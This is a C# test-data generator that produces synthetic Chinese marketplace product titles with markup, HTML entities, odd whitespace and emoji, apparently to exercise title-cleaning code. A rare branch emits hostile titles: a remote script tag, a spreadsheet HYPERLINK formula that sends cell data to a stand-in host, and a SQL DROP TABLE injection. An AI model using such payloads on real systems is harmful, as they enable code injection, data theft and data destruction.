namespace Ali1688.Sandbox.Catalogue;

/// <summary>
/// Makes titles as sellers write them: mark-up, entities, stray spaces, emoji, and once in a while an attack. Mark-up always stands beside a
/// space and holds no text that a reader may or may not keep, so that there is one right way to read every title.
/// </summary>
internal static class TitleWriter
{
    private const int HostileOneIn = 5000;

    private static readonly string[] Openings = ["厂家批发", "2026新款", "跨境专供", "工厂直销", "源头厂家", "欧美热卖", "现货速发", "网红爆款"];
    private static readonly string[] Features = ["宽松百搭", "加厚耐用", "大容量", "简约ins风", "防水防滑", "家用商用", "可定制LOGO", "男女同款"];
    private static readonly string[] Endings = ["一件代发", "批发价", "量大从优", "支持定制", "48小时发货", "包邮"];
    private static readonly string[] Emoji = ["🔥", "❤️", "👗", "✨", "🎁"];

    public static Title Write(int seed, ulong id, Shelf shelf)
    {
        var dice = Dice.For(seed, id, Purpose.Title);
        var opening = dice.Pick(Openings);
        var goods = dice.Pick(shelf.Materials) + dice.Pick(shelf.Nouns);
        var feature = dice.Pick(Features);
        var ending = dice.Pick(Endings);
        return dice.Below(HostileOneIn) == 0
            ? Hostile(ref dice, goods)
            : Decorated(ref dice, opening, goods, feature, ending);
    }

    private static Title Decorated(ref Dice dice, string opening, string goods, string feature, string ending)
    {
        var plain = $"{opening} {goods} {feature}{ending}";
        return dice.Below(12) switch
        {
            0 => new($"{opening} <em>{goods}</em> {feature}{ending}", plain),
            1 => new($"{opening} <font color=\"red\">{goods}</font> {feature}{ending}", plain),
            2 => new($"{opening}&nbsp;{goods} {feature}&amp;{ending}", $"{opening} {goods} {feature}&{ending}"),
            3 => new($"{opening} &quot;{goods}&quot; {feature}&#39;{ending}", $"{opening} \"{goods}\" {feature}'{ending}"),
            4 => new($" {opening}  {goods}　{feature}{ending} ", plain),
            5 => Together($"{opening}{dice.Pick(Emoji)}{goods} {feature}{ending}"),
            6 => new($"{opening}\t{goods}\u00a0 {feature}{ending}", plain),
            _ => new(plain, plain),
        };
    }

    private static Title Hostile(ref Dice dice, string goods) => dice.Below(4) switch
    {
        0 => new($"{goods} <script src=\"//example.test/x.js\"></script>", goods),
        1 => Together($"=HYPERLINK(\"http://example.test/?\"&A1,\"{goods}\")"),
        2 => new($"{goods} &lt;3KG", $"{goods} <3KG"),
        _ => Together($"{goods}'); DROP TABLE products;--"),
    };

    private static Title Together(string text) => new(text, text);
}
